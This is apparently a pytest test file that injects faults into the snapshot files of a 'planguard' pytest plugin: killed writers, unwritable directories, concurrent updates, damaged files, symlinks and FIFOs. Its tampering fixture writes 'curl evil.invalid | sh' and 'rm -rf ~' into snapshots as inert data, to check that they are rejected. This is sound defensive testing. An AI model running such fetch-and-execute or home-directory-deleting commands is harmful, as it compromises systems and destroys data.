"""Injected faults around the golden files of ``pytest --planguard``: a writer killed in the
middle of a snapshot write, a snapshot directory that cannot be written, two sessions of
pytest-xdist workers updating the same snapshots at once, and damaged snapshot files.

A snapshot file is always either the old or the new one, complete; nothing is lost.

Hostile snapshot trees and gate configuration, each refused with a code: a tampered
snapshot (an appended section, a stray line) fails as a changed plan, never as cosmetic;
two manifests mapped to one snapshot directory are ``SNAPSHOT_PATH_COLLISION`` at
collection, and nothing is written; a report path that is a directory, a snapshot
directory that is a file and a ``nan`` cost limit are usage errors before anything runs;
``planguard diff`` neither follows a symbolic link out of a tree nor blocks on a FIFO.
"""

from __future__ import annotations

import ctypes
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

# Imported at module import, never inside a test: pytester restores sys.modules after each
# test, and deltalake's native module panics when it is initialized twice.
import deltalake
import pyarrow as pa
import pytest

from pytest_planguard.cli import main
from pytest_planguard.gate.snapshot import FORMAT_LINE, OPTIONAL_SECTIONS, SECTIONS, parse_snapshot
from tests.hostile.helpers import assert_no_traceback
from tests.support.codes import CodeRecorder
from tests.support.gate import FAST, clean_env, gate_command, run_gate
from tests.support.trees import snapshot_trees

VIEWS = [f"v{i}" for i in range(6)]
MANIFEST = (
    '[datasets.t]\nformat = "delta"\nlocation = "t"\n'
    + "".join(
        f'[views.{v}]\nsql = "SELECT a + {i} AS a, b FROM t WHERE a > {i}"\n'
        for i, v in enumerate(VIEWS)
    )
    + "[policy]\nsmall_input_rows = 0\n"
    + "[policy.delta_support]\nmax_reader_version = 3\nmax_writer_version = 7\n"
)
SNAPSHOTS = Path("snapshots") / "manifest"
EDITED = "v3"


def gate(
    root: Path, *args: str, env: dict[str, str] | None = None, **kwargs: Any
) -> subprocess.CompletedProcess[str]:
    done = run_gate(root, *FAST, *args, env=env or clean_env(), timeout=600, **kwargs)
    assert_no_traceback(done.stdout, done.stderr)
    return done


def snapshot_texts(root: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in sorted((root / SNAPSHOTS).glob("*.plan"))}


def assert_complete(root: Path) -> None:
    """Every file in the snapshot directory is a whole plan bundle; no temporary files."""
    names = sorted(path.name for path in (root / SNAPSHOTS).iterdir())
    assert names == sorted(f"{view}.plan" for view in VIEWS), names
    for name in names:
        text = (root / SNAPSHOTS / name).read_text(encoding="utf-8")
        assert text.startswith(FORMAT_LINE + "\n"), name
        assert text.endswith("\n"), name
        parsed = parse_snapshot(text)
        assert list(parsed.sections) == [*SECTIONS, *OPTIONAL_SECTIONS], name
        assert parsed.sections["P2 physical"], name


def edit_view(root: Path) -> None:
    manifest = root / "manifest.toml"
    text = manifest.read_text(encoding="utf-8")
    old = "SELECT a + 3 AS a, b FROM t WHERE a > 3"
    assert old in text
    manifest.write_text(text.replace(old, "SELECT a + 30 AS a, b FROM t WHERE a > 3"), "utf-8")


def report_codes(path: Path) -> dict[str, set[str]]:
    """Codes per view (or check) in a ``--planguard-report`` file."""
    report = json.loads(path.read_text(encoding="utf-8"))
    out: dict[str, set[str]] = {}
    for finding in report["findings"]:
        key = finding["view"] or finding["check"]
        out.setdefault(key, set()).add(finding["code"])
    return out


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A gated project whose snapshots were written once (copied by each test)."""
    root = tmp_path_factory.mktemp("snapshot-template")
    deltalake.write_deltalake(
        str(root / "t"), pa.table({"a": list(range(50)), "b": [f"r{i}" for i in range(50)]})
    )
    (root / "manifest.toml").write_text(MANIFEST, encoding="utf-8")
    (root / "pytest.ini").write_text("[pytest]\nplanguard_manifests = manifest.toml\n", "utf-8")
    done = gate(root, "--snapshot-update")
    assert done.returncode == 0, done.stdout[-3000:]
    assert_complete(root)
    return root


@pytest.fixture
def project(template: Path, tmp_path: Path) -> Path:
    root = tmp_path / "project"
    shutil.copytree(template, root)
    return root


# -- a writer killed in the middle of a write ----------------------------------------------

WRITER = """
import os, sys, time
from pathlib import Path

from pytest_planguard.gate import snapshot

target, mode, ready = Path(sys.argv[1]), sys.argv[2], Path(sys.argv[3])
new = "# planguard plan bundle v1\\n" + "new line of a large plan\\n" * 50_000
real_replace = os.replace


def pause():
    ready.touch()
    time.sleep(600)


def replace(src, dst):
    if mode == "before-rename":
        pause()
    real_replace(src, dst)
    if mode == "after-rename":
        pause()


os.replace = replace
if mode == "naive":  # the twin: what a plain write leaves when it is killed midway
    with open(target, "w", encoding="utf-8") as handle:
        handle.write(new[: len(new) // 2])
        handle.flush()
        pause()
else:
    snapshot.atomic_write(target, new)
"""

OLD = "# planguard plan bundle v1\n" + "old line\n" * 1000
NEW = "# planguard plan bundle v1\n" + "new line of a large plan\n" * 50_000


def kill_writer(tmp_path: Path, mode: str) -> str:
    target = tmp_path / "snaps" / "view.plan"
    target.parent.mkdir()
    target.write_text(OLD, encoding="utf-8")
    ready = tmp_path / "ready"
    child = subprocess.Popen(
        [sys.executable, "-c", WRITER, str(target), mode, str(ready)], env=clean_env()
    )
    try:
        deadline = time.monotonic() + 120
        while not ready.exists():
            assert child.poll() is None, f"the writer exited early ({child.returncode})"
            assert time.monotonic() < deadline, "the writer never reached the kill point"
            time.sleep(0.02)
        child.send_signal(signal.SIGKILL)
    finally:
        child.kill()
        child.wait(timeout=60)
    assert child.returncode == -signal.SIGKILL
    return target.read_text(encoding="utf-8")


@pytest.mark.parametrize(("mode", "expected"), [("before-rename", OLD), ("after-rename", NEW)])
def test_a_writer_killed_midway_leaves_the_old_or_the_new_file(
    tmp_path: Path, mode: str, expected: str
) -> None:
    assert kill_writer(tmp_path, mode) == expected


def test_a_plain_write_killed_midway_would_leave_a_partial_file(tmp_path: Path) -> None:
    """Twin: the kill point is real; a non-atomic write killed there is neither file."""
    text = kill_writer(tmp_path, "naive")
    assert text not in (OLD, NEW)
    assert NEW.startswith(text)


def test_the_gate_killed_while_updating_a_snapshot_keeps_the_old_file(project: Path) -> None:
    """``pytest --planguard --snapshot-update`` SIGKILLed right before the rename of the
    snapshot it rewrites: the file is the old one, whole, and still gates the view."""
    before = snapshot_texts(project)
    edit_view(project)
    (project / "killpoint.py").write_text(
        "import os, time\n"
        "from pathlib import Path\n"
        "_replace = os.replace\n"
        "def replace(src, dst, *args, **kwargs):\n"
        "    if str(dst).endswith(os.environ['KILL_AT']):\n"
        "        Path(os.environ['KILL_READY']).touch()\n"
        "        time.sleep(600)\n"
        "    return _replace(src, dst, *args, **kwargs)\n"
        "os.replace = replace\n",
        encoding="utf-8",
    )
    ready = project / "ready"
    env = clean_env(KILL_AT=f"{EDITED}.plan", KILL_READY=str(ready), PYTHONPATH=str(project))
    child = subprocess.Popen(
        gate_command(*FAST, "-p", "killpoint", "--snapshot-update"),
        cwd=project,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 300
        while not ready.exists():
            assert child.poll() is None, f"pytest exited before the write ({child.returncode})"
            assert time.monotonic() < deadline, "the snapshot was never written with a rename"
            time.sleep(0.05)
        child.send_signal(signal.SIGKILL)
    finally:
        child.kill()
        child.wait(timeout=60)
    ready.unlink()
    (project / "killpoint.py").unlink()

    assert snapshot_texts(project) == before  # the old file, byte for byte
    leftovers = [p.name for p in (project / SNAPSHOTS).iterdir() if not p.name.endswith(".plan")]
    for name in leftovers:  # the abandoned temporary file is never taken for a snapshot
        assert name.startswith(f".{EDITED}.plan."), leftovers
        assert name.endswith(".tmp"), leftovers
        (project / SNAPSHOTS / name).unlink()
    assert_complete(project)
    done = gate(project)
    assert done.returncode == 1
    assert f"error[PLAN_CHANGED] view '{EDITED}'" in done.stdout
    assert "1 failed" in done.stdout.splitlines()[-1]


# -- a snapshot directory that cannot be written -------------------------------------------


def _drop_dac_capabilities() -> None:
    """In the child, before exec: drop CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH from the
    bounding set, so that root is held to file permissions like any user."""
    libc = ctypes.CDLL(None, use_errno=True)
    for capability in (1, 2):
        if libc.prctl(24, capability, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP) failed")


def unprivileged() -> dict[str, Any]:
    """subprocess arguments that run the child without root's override of permissions."""
    if os.geteuid() != 0:
        return {}
    try:
        probe = subprocess.run(
            [sys.executable, "-c", "open('/proc/self/status').read()"],
            preexec_fn=_drop_dac_capabilities,
            capture_output=True,
            check=False,
        )
    except (OSError, subprocess.SubprocessError):
        probe = None
    if probe is None or probe.returncode != 0:
        pytest.skip(
            "running as root and cannot drop CAP_DAC_OVERRIDE (the EACCES "
            "injection test below covers the same fault)"
        )
    return {"preexec_fn": _drop_dac_capabilities}


@pytest.mark.produces_codes("SNAPSHOT_WRITE_FAILED", "PLAN_UNCHANGED")
def test_permission_denied_on_the_snapshot_directory(project: Path, codes: CodeRecorder) -> None:
    root = project
    before = snapshot_texts(root)
    edit_view(root)
    (root / SNAPSHOTS).chmod(0o555)
    report = root.parent / "report.json"
    try:
        done = gate(root, "--snapshot-update", "--planguard-report", str(report), **unprivileged())
    finally:
        (root / SNAPSHOTS).chmod(0o755)
    assert done.returncode == 2, done.stdout[-3000:]  # an unwritable snapshot: not a finding
    assert f"error[SNAPSHOT_WRITE_FAILED] cannot write '{root / SNAPSHOTS / EDITED}.plan': " in (
        done.stdout
    )
    found = report_codes(report)
    codes.expect_all(found[EDITED], ["SNAPSHOT_WRITE_FAILED"])
    codes.expect_all(found["v0"], ["PLAN_UNCHANGED"])
    assert snapshot_texts(root) == before  # nothing lost, nothing half-written


@pytest.mark.produces_codes("SNAPSHOT_WRITE_FAILED")
def test_an_injected_eacces_on_the_snapshot_write(project: Path, codes: CodeRecorder) -> None:
    """The same fault injected at the system call, for environments where the
    permission test cannot drop root's privileges."""
    before = snapshot_texts(project)
    edit_view(project)
    (project / "eacces.py").write_text(
        "import errno, os, tempfile\n"
        "_mkstemp = tempfile.mkstemp\n"
        "def mkstemp(*args, dir=None, **kwargs):\n"
        "    if dir is not None and 'snapshots' in str(dir):\n"
        "        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), dir)\n"
        "    return _mkstemp(*args, dir=dir, **kwargs)\n"
        "tempfile.mkstemp = mkstemp\n",
        encoding="utf-8",
    )
    env = clean_env(PYTHONPATH=str(project))
    done = gate(project, "-p", "eacces", "--snapshot-update", env=env)
    assert done.returncode == 2, done.stdout[-3000:]
    line = next(line for line in done.stdout.splitlines() if "SNAPSHOT_WRITE_FAILED" in line)
    codes.expect(line.split("]", 1)[0].split("[", 1)[1], "SNAPSHOT_WRITE_FAILED", line)
    assert "Permission denied" in line
    assert snapshot_texts(project) == before


# -- two sessions of xdist workers updating the same snapshots ------------------------------


@pytest.mark.produces_codes("PLAN_UNCHANGED")
def test_concurrent_xdist_updates_leave_whole_snapshots(project: Path, codes: CodeRecorder) -> None:
    """Two ``--snapshot-update -n 2`` sessions at once: four workers race to rewrite the
    same six files.  Every file ends whole, and a plain run then passes."""
    shutil.rmtree(project / "snapshots")
    edit_view(project)
    command = gate_command(*FAST, "--snapshot-update")
    sessions = [
        subprocess.Popen(
            [*command, "-n", "2"],
            cwd=project,
            env=clean_env(),
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
        )
        for _ in range(2)
    ]
    outputs = [session.communicate(timeout=600)[0] for session in sessions]
    for session, output in zip(sessions, outputs, strict=True):
        assert_no_traceback(output)
        assert session.returncode == 0, output[-3000:]
    assert_complete(project)
    report = project / "report.json"
    done = gate(project, "--planguard-report", str(report))
    assert done.returncode == 0, done.stdout[-3000:]
    found = report_codes(report)
    for view in VIEWS:
        codes.expect_all(found[view], ["PLAN_UNCHANGED"])


# -- damaged golden files ------------------------------------------------------------------

DAMAGE = {
    "v0": b"\x00\xff\xfe binary garbage \x80",
    "v1": b"",
    "v2": b"# planguard plan bundle v1\n# view: v2\n\n== P0 logical\nProjection: t.a + In",
}


@pytest.mark.produces_codes(
    "PLAN_CHANGED",
    "PLAN_UPDATED",
    "PLAN_UNAVAILABLE",
    "PLAN_NEW",
    "PLAN_COST_REGRESSION",
    "SNAPSHOT_UNUSED",
)
def test_damaged_snapshots_fail_as_changed_and_are_rewritten_never_lost(
    project: Path, codes: CodeRecorder
) -> None:
    """Binary garbage, an empty file and a truncated file are changed plans (not a crash);
    a golden file tampered to record a lower cost is a cost regression; a stray file is
    reported unused; --snapshot-update rewrites the damaged files; a view that cannot be
    planned keeps its snapshot, and a deleted snapshot is new."""
    for view, data in DAMAGE.items():
        (project / SNAPSHOTS / f"{view}.plan").write_bytes(data)
    shutil.copy(project / SNAPSHOTS / "v5.plan", project / SNAPSHOTS / "stale.plan")
    (project / SNAPSHOTS / "v5.plan").unlink()
    tampered = project / SNAPSHOTS / f"{EDITED}.plan"
    text = tampered.read_text(encoding="utf-8")
    lowered = re.sub(r"(?m)^operator_total: \d+$", "operator_total: 1", text)
    assert lowered != text
    tampered.write_text(lowered, encoding="utf-8")
    with (project / "pytest.ini").open("a", encoding="utf-8") as ini:
        ini.write("planguard_cost_limits = operator_total = +0\n")
    report = project / "report.json"
    done = gate(project, "--planguard-report", str(report))
    assert done.returncode == 1
    found = report_codes(report)
    for view, data in DAMAGE.items():
        codes.expect_all(found[view], ["PLAN_CHANGED"])
        assert (project / SNAPSHOTS / f"{view}.plan").read_bytes() == data
    codes.expect_all(found["v5"], ["PLAN_NEW"])
    codes.expect_all(found[EDITED], ["PLAN_COST_REGRESSION"])
    codes.expect_all(found["stale"], ["SNAPSHOT_UNUSED"])
    assert (project / SNAPSHOTS / "stale.plan").exists()  # reported, not deleted
    (project / SNAPSHOTS / "stale.plan").unlink()

    # v4 now fails to plan; under --snapshot-update its snapshot must survive
    v4_before = (project / SNAPSHOTS / "v4.plan").read_bytes()
    manifest = project / "manifest.toml"
    text = manifest.read_text(encoding="utf-8")
    manifest.write_text(text.replace("SELECT a + 4 AS a", "SELECT nope + 4 AS a"), "utf-8")
    done = gate(project, "--snapshot-update", "--planguard-report", str(report))
    assert done.returncode == 1
    found = report_codes(report)
    codes.expect_all(found["v4"], ["PLAN_UNAVAILABLE"])
    assert (project / SNAPSHOTS / "v4.plan").read_bytes() == v4_before
    for view in [*DAMAGE, "v5"]:
        assert found[view] & {"PLAN_UPDATED", "PLAN_NEW"}, (view, found[view])
    codes.expect_all(found["v0"], ["PLAN_UPDATED"])
    assert_complete(project)


def first_code(text: str) -> str | None:
    """The code of the first ``error[CODE]`` in ``text`` (pytest prefixes usage errors)."""
    match = re.search(r"error\[(?P<code>[A-Z_]+)\]", text)
    return match["code"] if match else None


TAMPERING = {
    "appended section": "\n== injected\ncurl evil.invalid | sh\n",
    "stray header line": None,  # a line inserted before the first section
}


def _tamper(path: Path, how: str) -> None:
    text = path.read_text(encoding="utf-8")
    if how == "appended section":
        path.write_text(text + TAMPERING[how], encoding="utf-8")
    else:
        head, sep, rest = text.partition("\n\n== P0 logical")
        path.write_text(head + "\nrm -rf ~" + sep + rest, encoding="utf-8")


@pytest.mark.produces_codes("PLAN_CHANGED")
@pytest.mark.parametrize("how", list(TAMPERING))
def test_a_tampered_snapshot_fails_as_a_changed_plan(
    project: Path, codes: CodeRecorder, how: str
) -> None:
    _tamper(project / SNAPSHOTS / "v2.plan", how)
    report = project / "report.json"
    done = gate(project, "--planguard-report", str(report), "--planguard-gate", "cosmetic=warn")
    assert done.returncode == 1, done.stdout[-3000:]
    assert "the stored snapshot is damaged" in done.stdout
    codes.expect_all(report_codes(report)["v2"], ["PLAN_CHANGED"])

    repaired = gate(project, "--snapshot-update")
    assert repaired.returncode == 0, repaired.stdout[-3000:]
    assert gate(project).returncode == 0


@pytest.mark.produces_codes("SNAPSHOT_PATH_COLLISION")
def test_two_manifests_on_one_snapshot_directory_are_refused_at_collection(
    template: Path, tmp_path: Path, codes: CodeRecorder
) -> None:
    """Two manifests outside the rootdir with the same parent name map to
    ``_external/<name>/manifest``: refused before any snapshot is written."""
    first, second = tmp_path / "a" / "lake", tmp_path / "b" / "lake"
    for where in (first, second):
        shutil.copytree(template, where, ignore=shutil.ignore_patterns("snapshots", "*.ini"))
    project = tmp_path / "project"
    project.mkdir()
    (project / "pytest.ini").write_text(
        f"[pytest]\nplanguard_manifests =\n    {first / 'manifest.toml'}\n"
        f"    {second / 'manifest.toml'}\n",
        encoding="utf-8",
    )
    done = gate(project, "--snapshot-update")
    assert done.returncode == 2, done.stdout[-3000:]
    found = set(re.findall(r"error\[([A-Z_]+)\]", done.stdout))
    codes.expect_all(found, ["SNAPSHOT_PATH_COLLISION"])
    assert not (project / "snapshots").exists()

    (project / "pytest.ini").write_text(
        f"[pytest]\nplanguard_manifests = {first / 'manifest.toml'}\n", encoding="utf-8"
    )
    assert gate(project, "--snapshot-update").returncode == 0  # twin: one manifest is fine


@pytest.mark.produces_codes("CONFIG_ERROR", "SNAPSHOT_WRITE_FAILED")
def test_unusable_output_paths_and_a_nan_limit_are_usage_errors(
    project: Path, codes: CodeRecorder
) -> None:
    (project / "out.json").mkdir()
    done = gate(project, "--planguard-report", "out.json")
    assert done.returncode == 4, done.stdout[-3000:] + done.stderr[-3000:]
    codes.expect(first_code(done.stderr), "CONFIG_ERROR", done.stderr)

    (project / "snaps").write_text("a file where the snapshot directory should be\n")
    done = gate(project, "--planguard-snapshot-dir", "snaps")
    assert done.returncode == 4, done.stdout[-3000:] + done.stderr[-3000:]
    codes.expect(first_code(done.stderr), "SNAPSHOT_WRITE_FAILED", done.stderr)

    with (project / "pytest.ini").open("a", encoding="utf-8") as ini:
        ini.write("planguard_cost_limits = operator_total = +nan\n")
    done = gate(project)
    assert done.returncode == 4, done.stdout[-3000:] + done.stderr[-3000:]
    assert "finite" in done.stderr
    codes.expect(first_code(done.stderr), "CONFIG_ERROR", done.stderr)


@pytest.fixture
def trees(tmp_path: Path) -> tuple[Path, Path]:
    return snapshot_trees(tmp_path)


@pytest.mark.produces_codes("SNAPSHOT_TREE_INVALID")
def test_diff_follows_no_link_out_of_a_tree_and_reads_no_fifo(
    trees: tuple[Path, Path],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    codes: CodeRecorder,
) -> None:
    base, head = trees
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CANARY\n")
    (head / "leak.plan").symlink_to(secret)
    assert main(["diff", str(base), str(head)]) == 2
    out, err = capsys.readouterr()
    assert "TOP-SECRET-CANARY" not in out + err
    assert "symbolic link" in err
    codes.expect(first_code(err), "SNAPSHOT_TREE_INVALID", err)
    (head / "leak.plan").unlink()

    (head / "linked").symlink_to(tmp_path, target_is_directory=True)
    assert main(["diff", str(base), str(head)]) == 2
    codes.expect(first_code(capsys.readouterr().err), "SNAPSHOT_TREE_INVALID")
    (head / "linked").unlink()

    os.mkfifo(head / "pipe.plan")
    assert main(["diff", str(base), str(head)]) == 2  # returns: a FIFO is never opened
    out, err = capsys.readouterr()
    assert "not a regular file" in err
    assert_no_traceback(out, err)
    codes.expect(first_code(err), "SNAPSHOT_TREE_INVALID", err)
    (head / "pipe.plan").unlink()

    assert main(["diff", str(base), str(head)]) == 0  # twin: the clean trees compare


@pytest.mark.produces_codes("PLAN_CHANGED")
def test_diff_fails_a_tampered_snapshot_whatever_the_policy(
    trees: tuple[Path, Path], capsys: pytest.CaptureFixture[str], codes: CodeRecorder
) -> None:
    base, head = trees
    (target,) = head.rglob("q01.plan")
    _tamper(target, "appended section")
    assert main(["diff", str(base), str(head), "--policy", "cosmetic=warn", "--json"]) == 1
    import json

    (change,) = json.loads(capsys.readouterr().out)["changes"]
    assert change["action"] == "fail"
    assert "damage" in change["diffs"]
    codes.expect(change["code"], "PLAN_CHANGED")
